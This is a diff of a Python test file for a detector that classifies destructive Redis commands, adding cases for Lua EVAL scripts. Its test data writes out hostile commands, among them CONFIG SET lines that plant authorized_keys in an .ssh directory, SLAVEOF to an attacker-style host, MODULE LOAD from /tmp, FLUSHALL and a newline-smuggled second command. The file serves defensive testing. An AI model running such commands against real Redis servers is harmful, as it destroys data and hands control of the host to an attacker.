@@ -109,12 +109,19 @@ def test_shell_lines_are_no_store_commands(text):
     ("DEL a b c d", "document"), ("UNLINK cache:*", "document"), ("DELETE /logs-*", "document"),
     ("CONFIG SET dir /home/dev/.ssh", "server_code"), ("config set dbfilename authorized_keys", "server_code"),
     ("SLAVEOF evil.example 6379", "server_code"), ("MODULE LOAD /tmp/x.so", "server_code"),
-    ("EVAL \"return 1\" 0", "server_code"), ("SHUTDOWN NOSAVE", "server_code"),
+    ("EVAL \"return redis.call(ARGV[1])\" 0 FLUSHALL", "server_code"), ("EVALSHA 1f2e3d 0", "server_code"),
+    ("EVAL \"return redis.call('FLUSHALL')\" 0", "document"), ("SHUTDOWN NOSAVE", "server_code"),
     ("GET k\nFLUSHALL", "document"),
 ])
 def test_destructive_store_commands(text, kind):
     found = store_destructive(text)
     assert found and found["kind"] == kind
+
+
+def test_lua_scripts_whose_commands_are_read_and_harmless_pass():
+    # since s25 (dbpatch) an EVAL's script is judged by the redis.call()s it makes, not asked whole
+    assert store_destructive("EVAL \"return 1\" 0") is None
+    assert store_destructive("EVAL \"return redis.call('GET', KEYS[1])\" 1 k") is None
 
 
 def test_store_commands_pass_and_destroyers_are_sql_effects():
